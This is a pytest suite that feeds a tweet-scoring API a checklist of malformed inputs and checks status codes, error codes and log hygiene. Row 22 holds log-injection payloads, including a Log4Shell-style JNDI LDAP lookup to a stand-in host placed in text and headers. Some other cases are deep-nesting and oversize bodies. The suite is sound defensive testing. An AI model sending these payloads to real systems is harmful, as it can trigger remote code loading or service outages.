"""RELIABILITY.md section 2, the checklist of bad inputs, row by row, against the real app.

Principle: every request ends in a 2xx, a 4xx with a stable code and no side effect, or a
429/503/504 with a retry hint; never a 500 for something the client sent, and no error body that
echoes the input. Bodies are raw bytes wherever a Python string cannot express the input (lone
surrogates, NaN, invalid UTF-8, duplicate keys, huge or deep bodies).

Rows 25-28 need their own app configuration and have their own tests below; row 29 (SIGTERM with
requests in flight) is `test_api_lifecycle.py::test_sigterm_drains_requests_in_flight` (slow).
Rows 24, 30, 31 and 32 are about the feedback store, which this service does not have yet.
"""

from __future__ import annotations

import json
import logging
import threading
import time
from dataclasses import dataclass, field

import pytest
from fastapi.testclient import TestClient

from api_support import (
    CLIENT_KEY,
    GatedBackend,
    app_with,
    assert_error,
    keyed_settings,
    settings_for,
    stub_loaded,
)

JSON = {"content-type": "application/json"}
MARKER = "SECRET-MARKER-7321"  # put in bad inputs: it must never come back in an error body


def body(*tweets: str | bytes) -> bytes:
    """A request body with raw tweet objects (bytes, so that any escape can be written)."""
    parts = [tweet.encode() if isinstance(tweet, str) else tweet for tweet in tweets]
    return b'{"tweets":[' + b",".join(parts) + b"]}"


def tweet(text: str = "hello @brand " + MARKER, **extra: str) -> str:
    """One tweet object; values are raw JSON fragments."""
    fields = {"id": '"t1"', "text": json.dumps(text), **extra}
    return "{" + ",".join(f'"{key}":{value}' for key, value in fields.items()) + "}"


def raw_text(escaped: str) -> str:
    """A tweet whose text is written as raw JSON (escapes kept as they are)."""
    return '{"id":"t1","text":"' + escaped + '"}'


@dataclass
class Case:
    row: int
    name: str
    content: bytes | None
    status: int
    code: str | None = None
    headers: dict = field(default_factory=lambda: dict(JSON))
    method: str = "POST"
    path: str = "/v1/score"


CASES = [
    # 1-2: lone surrogate escapes, in every string field a validator looks at, and in a key name
    Case(1, "lone-surrogate-in-text", body(raw_text("a\\ud800b " + MARKER)), 422, "invalid_character"),
    Case(1, "lone-trailing-surrogate", body(raw_text("a\\udfffb")), 422, "invalid_character"),
    Case(2, "lone-surrogate-in-context", body(tweet(context='[{"author":"customer","text":"x\\ud800"}]')), 422,
         "invalid_character"),
    Case(2, "lone-surrogate-in-id", body('{"id":"\\ud800","text":"hi"}'), 422, "invalid_character"),
    Case(2, "lone-surrogate-in-key-name", body('{"id":"t1","text":"hi","\\ud800":1}'), 422, "unknown_field"),
    Case(2, "lone-surrogate-in-top-level-key", b'{"tweets":[{"id":"t1","text":"hi"}],"\\ud800":1}', 422,
         "invalid_character"),
    # 3: non-finite numbers
    Case(3, "nan", body(tweet(author='{"followers":NaN}')), 422, "invalid_number"),
    Case(3, "infinity", body(tweet(author='{"followers":Infinity}')), 422, "invalid_number"),
    Case(3, "minus-infinity", body(tweet(author='{"followers":-Infinity}')), 422, "invalid_number"),
    Case(3, "1e999", body(tweet(author='{"followers":1e999}')), 422, "invalid_number"),
    Case(3, "fractional-followers", body(tweet(author='{"followers":1.5}')), 422, "invalid_value"),
    # 4: a valid surrogate pair is an emoji
    Case(4, "surrogate-pair", body(raw_text("great \\ud83d\\ude00")), 200),
    # 5: NUL
    Case(5, "nul-escape", body(raw_text("a\\u0000b " + MARKER)), 422, "invalid_character"),
    Case(5, "nul-in-context", body(tweet(context='[{"author":"brand","text":"a\\u0000"}]')), 422, "invalid_character"),
    # 6-7: content types
    Case(6, "no-content-type", body(tweet()), 422, "missing_content_type", headers={}),
    Case(7, "text-plain", body(tweet()), 415, "unsupported_media_type", headers={"content-type": "text/plain"}),
    Case(7, "form-urlencoded", b"tweets=1", 415, "unsupported_media_type",
         headers={"content-type": "application/x-www-form-urlencoded"}),
    Case(7, "json-with-charset", body(tweet()), 200, headers={"content-type": "application/json; charset=utf-8"}),
    # 8: malformed JSON
    Case(8, "truncated", b'{"tweets":[{"id":"t1","text":"' + MARKER.encode(), 422, "invalid_json"),
    Case(8, "trailing-comma", b'{"tweets":[{"id":"t1","text":"a"},]}', 422, "invalid_json"),
    Case(8, "not-an-object", b'"tweets"', 422, "invalid_body"),
    Case(8, "empty-body", b"", 422),
    Case(8, "utf8-bom", b"\xef\xbb\xbf" + body(tweet()), 422, "invalid_json"),
    # 9: bytes that are not UTF-8
    Case(9, "invalid-utf8", body(b'{"id":"t1","text":"caf\xe9 \xff\xfe"}'), 422, "invalid_encoding"),
    Case(9, "utf16-body", body(tweet()).decode().encode("utf-16"), 422, "invalid_encoding"),
    # 10: very deep nesting
    Case(10, "100k-deep-arrays", b"[" * 100_000 + b"]" * 100_000, 422, "nested_too_deeply"),
    Case(10, "deep-in-context", body(tweet(context="[" * 50_000 + "]" * 50_000)), 422, "nested_too_deeply"),
    # 11: bodies over the limit (8 MiB by default)
    Case(11, "10-MB-body", body(tweet(text="x" * 10_000)) + b" " * 10_000_000, 413, "payload_too_large"),
    # 12: empty and whitespace-only text; emoji-only is a tweet
    Case(12, "empty-text", body(tweet(text="")), 422, "empty_text"),
    Case(12, "whitespace-text", body(tweet(text=" \t\n\u3000 ")), 422, "empty_text"),
    Case(12, "emoji-only", body(tweet(text="😡😡😡")), 200),
    # 13: long posts up to 10,000 code points; one more is refused
    Case(13, "long-post-10000", body(tweet(text="é" * 9_990 + "@brand hi")), 200),
    Case(13, "astral-10000", body(tweet(text="😀" * 10_000)), 200),
    Case(13, "over-long-10001", body(tweet(text="x" * 10_001)), 422, "text_too_long"),
    # 14: fields nobody may set
    Case(14, "model-version-in-tweet", body(tweet(model_version='"x"')), 422, "unknown_field"),
    Case(14, "agent-id-in-tweet", body(tweet(agent_id='"x"')), 422, "unknown_field"),
    Case(14, "unknown-top-level", b'{"tweets":[' + tweet().encode() + b'],"model_version":"x"}', 422, "unknown_field"),
    Case(14, "unknown-author-field", body(tweet(author='{"handle":"@x"}')), 422, "unknown_field"),
    Case(14, "unknown-turn-field", body(tweet(context='[{"author":"customer","text":"a","likes":3}]')), 422,
         "unknown_field"),
    # 15: wrong types
    Case(15, "text-number", body('{"id":"t1","text":123}'), 422, "invalid_type"),
    Case(15, "text-list", body('{"id":"t1","text":["a"]}'), 422, "invalid_type"),
    Case(15, "id-bool", body('{"id":true,"text":"a"}'), 422, "invalid_type"),
    Case(15, "tweets-object", b'{"tweets":{"id":"t1","text":"a"}}', 422, "invalid_type"),
    Case(15, "tweet-string", b'{"tweets":["hello"]}', 422, "invalid_type"),
    Case(15, "followers-string", body(tweet(author='{"followers":"1000"}')), 422, "invalid_type"),
    Case(15, "bad-timestamp", body(tweet(created_at='"yesterday"')), 422, "invalid_timestamp"),
    Case(15, "bad-turn-author", body(tweet(context='[{"author":"bot","text":"a"}]')), 422, "invalid_value"),
    Case(15, "missing-text", body('{"id":"t1"}'), 422, "missing_field"),
    Case(15, "missing-tweets", b"{}", 422, "missing_field"),
    # 16: duplicate keys are refused rather than resolved one way or another
    Case(16, "duplicate-text", body('{"id":"t1","text":"a","text":"b"}'), 422, "duplicate_key"),
    Case(16, "duplicate-tweets", b'{"tweets":[],"tweets":[' + tweet().encode() + b"]}", 422, "duplicate_key"),
    # 17: batch size
    Case(17, "10000-items", body(*[tweet()] * 10_000), 422, "batch_too_large"),
    Case(17, "257-items", body(*[tweet()] * 257), 422, "batch_too_large"),
    Case(17, "256-items", body(*[tweet(text="@brand where is my order?")] * 256), 200),
    Case(17, "no-items", b'{"tweets":[]}', 422, "empty_batch"),
    # 18-21: format characters, bidi controls, ZWJ sequences, confusables: scored like any text
    Case(18, "zero-width", body(tweet(text="ref\u200bund\ufeff now\u00ad \u200d")), 200),
    Case(19, "rtl-override", body(tweet(text="\u202eevil\u202c text \u2066iso\u2069")), 200),
    Case(20, "zwj-family", body(tweet(text="👨\u200d👩\u200d👧 love you @brand")), 200),
    Case(21, "fullwidth-and-math-bold", body(tweet(text="ｆｒｅｅ 𝐟𝐫𝐞𝐞 refund")), 200),
    # 22: log-injection material in text and in headers
    Case(22, "crlf-ansi-jndi-text", body(tweet(text="a\r\nINFO fake\x1b[31m ${jndi:ldap://x/a}")), 200),
    Case(22, "jndi-header", body(tweet()), 200, headers={**JSON, "User-Agent": "${jndi:ldap://x/a}",
                                                          "X-Forwarded-For": "${jndi:ldap://x/b}"}),
    # 33: verbs a route does not take
    Case(33, "get-on-post-route", None, 405, "method_not_allowed", method="GET"),
    Case(33, "put-on-post-route", body(tweet()), 405, "method_not_allowed", method="PUT"),
    Case(33, "post-on-get-route", body(tweet()), 405, "method_not_allowed", path="/v1/model"),
    # query parameters are client input too
    Case(0, "bad-bool-parameter", body(tweet()), 422, "invalid_parameter", path="/v1/score?explain=maybe"),
    Case(0, "invalid-utf8-in-query", body(tweet()), 422, "invalid_parameter", path="/v1/score?locale=%ff%fe"),
]


@pytest.fixture(scope="module")
def client():
    with TestClient(app_with(stub_loaded())) as test_client:
        yield test_client


@pytest.mark.parametrize("case", CASES, ids=[f"row{case.row:02d}-{case.name}" for case in CASES])
def test_checklist_row(client, case, caplog):
    caplog.set_level(logging.DEBUG)
    response = client.request(case.method, case.path, content=case.content, headers=case.headers)
    assert response.status_code != 500
    if case.status == 200:
        assert response.status_code == 200, response.text
        results = response.json()["results"]
        assert results and all(result["id"] == "t1" for result in results)
    else:
        error = assert_error(response, case.status, case.code)
        assert MARKER not in response.text, "error bodies never echo the input"
        assert error["error"]["message"].isascii() or case.code is None
    logged = caplog.text
    for leaked in (MARKER, "jndi", "\x1b[31m", "INFO fake"):
        assert leaked not in logged, f"client input reached the logs: {leaked!r}"


def test_chunked_body_over_the_limit_is_413():
    """Row 11 without Content-Length: FastAPI's max_body_size counts the bytes as they arrive."""
    app = app_with(stub_loaded(), settings_for(max_body_bytes=50_000))

    def chunks():
        yield b'{"tweets":[' + tweet().encode() + b"]"
        for _ in range(20):
            yield b" " * 10_000
        yield b"}"

    with TestClient(app) as client:
        response = client.post("/v1/score", content=chunks(), headers=JSON)
        assert response.request.headers.get("transfer-encoding") == "chunked"
        assert_error(response, 413, "payload_too_large")


def test_bodies_without_a_key_are_refused_before_they_are_read():
    """Row 23 and API4: with keys on, no body is parsed for an unauthenticated request."""
    with TestClient(app_with(stub_loaded(), keyed_settings())) as client:
        assert_error(client.post("/v1/score", content=b"{not json", headers=JSON), 401, "unauthorized")
        huge = b'{"tweets":[]}' + b" " * 10_000_000
        assert_error(client.post("/v1/score", content=huge, headers=JSON), 413)  # declared size: refused first


@pytest.mark.parametrize("key", [None, "", "wrong-key-0123456789abcdef", CLIENT_KEY + " ", "ключ-0123456789abcdef"])
def test_row23_missing_or_wrong_key(key):
    with TestClient(app_with(stub_loaded(), keyed_settings())) as client:
        headers = dict(JSON)
        if key is not None:
            headers["X-API-Key"] = key.encode("utf-8")  # raw bytes: non-ASCII keys reach the server too
        response = client.post("/v1/score", content=body(tweet()), headers=headers)
        assert_error(response, 401, "unauthorized")
        assert response.headers["www-authenticate"] == "APIKey"


def test_row25_rate_limit_answers_429_with_retry_after():
    with TestClient(app_with(stub_loaded(), keyed_settings(rate_limit="3/minute"))) as client:
        headers = {**JSON, "X-API-Key": CLIENT_KEY}
        statuses = [client.post("/v1/score", content=body(tweet()), headers=headers).status_code for _ in range(3)]
        assert statuses == [200, 200, 200]
        response = client.post("/v1/score", content=body(tweet()), headers=headers)
        assert_error(response, 429, "rate_limited")
        assert 1 <= int(response.headers["retry-after"]) <= 60
        assert client.get("/livez").status_code == 200 and client.get("/readyz").status_code == 200


def test_row26_concurrency_cap_refuses_at_once_and_spares_health():
    backend = GatedBackend()
    app = app_with(stub_loaded(backend), settings_for(max_concurrency=2))
    with TestClient(app) as client:
        results: list[int] = []

        def post() -> None:
            results.append(client.post("/v1/score", content=body(tweet()), headers=JSON).status_code)

        threads = [threading.Thread(target=post) for _ in range(2)]
        for thread in threads:
            thread.start()
        assert backend.entered.acquire(timeout=5), "one request is inside the model"
        deadline = time.monotonic() + 5
        while app_in_flight(client) < 2 and time.monotonic() < deadline:
            time.sleep(0.01)
        started = time.monotonic()
        response = client.post("/v1/score", content=body(tweet()), headers=JSON)
        assert time.monotonic() - started < 1, "refused at once, not queued"
        assert_error(response, 503, "overloaded")
        assert response.headers["retry-after"] == "1"
        for path in ("/livez", "/readyz", "/metrics"):
            assert client.get(path).status_code == 200, path
        backend.gate.set()
        for thread in threads:
            thread.join(10)
        assert results == [200, 200]
        assert 'triage_rejected_total{reason="overload"} 1.0' in client.get("/metrics").text


def app_in_flight(client) -> float:
    for line in client.get("/metrics").text.splitlines():
        if line.startswith("triage_inflight_requests "):
            return float(line.split()[1])
    return 0.0


def test_row27_model_slower_than_the_budget_is_504():
    backend = GatedBackend()
    app = app_with(stub_loaded(backend), settings_for(request_timeout_s=0.2))
    with TestClient(app) as client:
        threading.Timer(1.0, backend.gate.set).start()
        response = client.post("/v1/score", content=body(tweet()), headers=JSON)
        assert_error(response, 504, "timeout")
        assert response.headers["retry-after"] == "1"


def test_row27_a_long_batch_stops_at_its_deadline():
    """Between chunks the deadline is checked, so the work left is not done for nothing."""
    backend = GatedBackend()
    app = app_with(stub_loaded(backend), settings_for(request_timeout_s=1.0))

    def open_the_gate_after_the_deadline() -> None:
        # Counted from when the first chunk reached the backend, not from a fixed start: a pause
        # before it (a busy machine, a garbage collection) must not let the deadline pass first.
        if backend.entered.acquire(timeout=10):
            time.sleep(1.2)
        backend.gate.set()

    threading.Thread(target=open_the_gate_after_the_deadline, daemon=True).start()
    with TestClient(app) as client:
        response = client.post("/v1/score", content=body(*[tweet()] * 256), headers=JSON)
        assert_error(response, 504, "timeout")
    # The 504 leaves while the first chunk still waits for the gate: let that thread finish (on a
    # busy machine it is scheduled late), then give a wrongly continued batch time to go on.
    finished_by = time.monotonic() + 10
    while backend.calls < 1 and time.monotonic() < finished_by:
        time.sleep(0.01)
    time.sleep(0.3)
    assert backend.calls == 1, "the chunks after the deadline were never scored"


def test_row28_not_ready_until_the_model_is_loaded():
    app = app_with(None)  # nothing loaded and no lifespan: the state during start-up
    client = TestClient(app)
    assert client.get("/livez").status_code == 200
    response = client.get("/readyz")
    assert_error(response, 503, "not_ready")
    assert response.headers["retry-after"] == "1"
    response = client.post("/v1/score", content=body(tweet()), headers=JSON)
    assert_error(response, 503, "not_ready")
    assert response.headers["retry-after"] == "1"


@pytest.mark.parametrize(
    ("row", "reason"),
    [
        (24, "no feedback store in v1: no ids of other tenants to look up"),
        (30, "scoring has no side effect: a retried POST /v1/score is safe without Idempotency-Key"),
        (31, "no database on the scoring path"),
        (32, "no SQLite writes on the scoring path"),
    ],
)
def test_rows_about_the_feedback_store(row, reason):
    pytest.skip(f"row {row}: {reason}")
